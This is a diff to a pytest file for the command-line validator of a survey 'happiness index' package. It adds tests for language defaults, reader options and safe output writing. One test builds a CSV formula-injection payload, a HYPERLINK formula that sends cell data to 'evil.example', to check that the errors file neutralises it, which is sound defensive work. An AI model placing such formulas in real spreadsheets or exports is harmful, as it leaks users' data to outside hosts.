@@ -17,8 +17,12 @@ SPEC = str(BAD / "spec.toml")
 FRAME = str(BAD / "frame.csv")
 
 
-def run(capsys, *argv):
-    code = main(list(argv))
+def run(capsys, *argv, lang="en"):
+    """main(argv) in process; validate's summary in English unless ``--lang`` is given (or lang=None)."""
+    argv = list(argv)
+    if lang and argv[:1] == ["validate"] and "--lang" not in argv and "--help" not in argv:
+        argv += ["--lang", lang]
+    code = main(argv)
     out, err = capsys.readouterr()
     assert "Traceback" not in out + err
     return code, out, err
@@ -54,11 +58,11 @@ def test_vietnamese_summary(capsys):
 
 def test_coercions_counted_and_written_to_out(capsys, tmp_path, monkeypatch):
     # read_survey already converts text numbers; feed the validator the raw text cells
-    import happiness_index.report.cli as cli
+    from happiness_index.report import cli
 
     text = pd.read_csv(BAD / "coerced_text_numbers.csv", dtype=str, keep_default_na=False)
     real = cli.read_input
-    monkeypatch.setattr(cli, "read_input", lambda arg, what: text if what == "survey" else real(arg, what))
+    monkeypatch.setattr(cli, "read_input", lambda arg, what, options=None: text if what == "survey" else real(arg, what, options))
     out_csv = tmp_path / "errors.csv"
     code, out, _ = run(capsys, "validate", str(BAD / "coerced_text_numbers.csv"), "--spec", SPEC,
                        "--frame", FRAME, "--out", str(out_csv))
@@ -108,7 +112,7 @@ def test_invalid_spec_exits_2(capsys, tmp_path):
 
 def test_unreadable_data_exits_1(capsys, tmp_path):
     p = tmp_path / "latin.csv"
-    p.write_bytes("id,q1\n".encode() + "1,Đông\n".encode("cp1258"))
+    p.write_bytes(b"id,q1\n" + "1,Đông\n".encode("cp1258"))
     code, _, err = run(capsys, "validate", str(p), "--spec", SPEC)
     assert code == 1 and "cannot read data" in err and "line 2" in err
     p = tmp_path / "x.xlsx"
@@ -139,7 +143,19 @@ def test_console_entry_point_subprocess():
     r = subprocess.run([sys.executable, "-c", "import sys; from happiness_index.report.cli import main; "
                         "sys.exit(main())", "validate", str(BAD / "missing_column.csv"), "--spec", SPEC],
                        capture_output=True, text=True, cwd=ROOT)
-    assert r.returncode == 1 and "missing column" in r.stdout and "Traceback" not in r.stderr
+    # the default language of validate is the one of run: Vietnamese
+    assert r.returncode == 1 and "thiếu cột" in r.stdout and "Traceback" not in r.stderr
+
+
+def test_help_starts_without_heavy_imports():
+    """`happiness-index --help` imports neither pandas, numpy, matplotlib nor pandera (start-up < 0.7 s)."""
+    code = ("import sys; from happiness_index.report.cli import main\n"
+            "try:\n    main(['run', '--help'])\nexcept SystemExit:\n    pass\n"
+            "main(['--help']); main(['validate', '--help'])\n"
+            "print(sorted(m for m in ('pandas', 'numpy', 'matplotlib', 'pandera', 'scipy') if m in sys.modules))")
+    r = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT)
+    assert r.returncode == 0, r.stderr
+    assert r.stdout.strip().splitlines()[-1] == "[]"
 
 
 def test_out_equal_to_an_input_is_refused(capsys, tmp_path):
@@ -195,3 +211,95 @@ def test_write_failure_names_the_output_file(capsys):
 def test_out_directory_is_refused(capsys, tmp_path):
     code, _, err = run(capsys, "validate", str(BAD / "good.csv"), "--spec", SPEC, "--out", str(tmp_path))
     assert code == 2 and "is a directory; give the name of a CSV file" in err
+
+
+# ------------------------------------------------------------------ issue 9: the errors file and reader options
+def test_errors_csv_cannot_attack_its_reader(capsys, tmp_path):
+    """A commune name that is a spreadsheet formula is written as text (OWASP), numbers unchanged."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    text = (BAD / "good.csv").read_text(encoding="utf-8").replace("Phường Minh Tân", evil.replace('"', '""'))
+    text = text.replace(evil.replace('"', '""'), '"' + evil.replace('"', '""') + '"')  # a quoted CSV field
+    survey = tmp_path / "evil.csv"
+    survey.write_text(text, encoding="utf-8")
+    out_csv = tmp_path / "errors.csv"
+    code, _, _ = run(capsys, "validate", str(survey), "--spec", SPEC, "--frame", FRAME, "--out", str(out_csv))
+    assert code == 1
+    e = pd.read_csv(out_csv, encoding="utf-8-sig", dtype=str, keep_default_na=False)
+    cells = [c for col in e.columns for c in e[col]]
+    assert any(evil in c for c in cells)  # the name is reported ...
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]  # ... but never live
+    assert "'" + evil in cells
+
+
+def test_out_never_overwrites_a_file_it_did_not_write(capsys, tmp_path):
+    thesis = tmp_path / "thesis.csv"
+    thesis.write_text("my,own\n1,2\n", encoding="utf-8")
+    code, _, err = run(capsys, "validate", str(BAD / "good.csv"), "--spec", SPEC, "--out", str(thesis))
+    assert code == 2 and "is not a list of problems written by happiness-index" in err
+    assert thesis.read_text(encoding="utf-8") == "my,own\n1,2\n"
+    # an earlier list of problems (or an empty file) is replaced, atomically (no temporary file left)
+    out_csv = tmp_path / "errors.csv"
+    out_csv.write_bytes(b"")
+    for survey in ("out_of_range_code.csv", "good.csv"):
+        code, _, _ = run(capsys, "validate", str(BAD / survey), "--spec", SPEC, "--out", str(out_csv))
+        assert code in (0, 1)
+    assert pd.read_csv(out_csv, encoding="utf-8-sig").empty
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["errors.csv", "thesis.csv"]
+
+
+def _excel_locale_copy(tmp_path) -> Path:
+    """good.csv as saved by Excel in the Vietnamese locale: ';' fields, ',' decimals, '.' thousands."""
+    d = pd.read_csv(BAD / "good.csv").convert_dtypes()  # whole numbers stay whole (7, not 7.0), as Excel writes them
+    d["w"] = [f"{10 * w:,.1f}".replace(",", " ").replace(".", ",").replace(" ", ".") for w in d["w"]]
+    p = tmp_path / "vi.csv"
+    d.to_csv(p, sep=";", index=False)
+    return p
+
+
+def test_reader_options_read_the_office_export(capsys, tmp_path, monkeypatch):
+    p = _excel_locale_copy(tmp_path)
+    assert "1.205,0" in p.read_text(encoding="utf-8")
+    seen = {}
+    from happiness_index.reading import schema
+
+    orig = schema.validate_survey
+
+    def spy(data, *a, **k):
+        seen["w"] = data["w"].tolist()
+        return orig(data, *a, **k)
+
+    monkeypatch.setattr(schema, "validate_survey", spy)
+    code, out, err = run(capsys, "validate", str(p), "--spec", SPEC, "--frame", FRAME, "--sep", ";", "--decimal", ",",
+                         "--thousands", ".", "--frame-sep", ",")
+    assert code == 0, out + err
+    assert seen["w"] == [1205.0, 980.0, 1100.0, 875.0, 1010.0, 950.0, 900.0, 1300.0]
+
+
+def test_header_row_option(capsys, tmp_path):
+    """--header-row: a table under title rows (read_survey's header_row, when this version has it)."""
+    import inspect
+
+    from happiness_index.reading.files import read_survey
+
+    p = tmp_path / "titled.csv"
+    p.write_text("BÁO CÁO KHẢO SÁT\n\n" + (BAD / "good.csv").read_text(encoding="utf-8"), encoding="utf-8")
+    code, out, err = run(capsys, "validate", str(p), "--spec", SPEC, "--header-row", "3")
+    if "header_row" in inspect.signature(read_survey).parameters:
+        assert code == 0, out + err
+    else:
+        assert code == 2 and "--header-row (reading the survey) is not supported by this version's reader" in err
+
+
+def test_validate_reads_the_run_file(capsys, tmp_path):
+    """`validate --config run.toml`: survey, spec, frame, language and reader options from the run file."""
+    _excel_locale_copy(tmp_path)  # vi.csv
+    (tmp_path / "spec.toml").write_bytes(Path(SPEC).read_bytes())
+    (tmp_path / "run.toml").write_text('survey = "vi.csv"\nspec = "spec.toml"\nframe = "%s"\nlanguage = "en"\n'
+                                       '[read]\nsep = ";"\ndecimal = ","\nthousands = "."\n' % FRAME.replace("\\", "/"),
+                                       encoding="utf-8")
+    code, out, err = run(capsys, "validate", "--config", str(tmp_path / "run.toml"), lang=None)
+    assert code == 0 and "no problems" in out, out + err
+    code, out, _ = run(capsys, "validate", "--config", str(tmp_path / "run.toml"), "--lang", "vi")
+    assert code == 0 and "không có lỗi" in out  # the command line over the run file
+    code, _, err = run(capsys, "validate", "--config", str(tmp_path / "run.toml"), "--out", str(tmp_path / "run.toml"))
+    assert code == 2 and "is the run file" in err
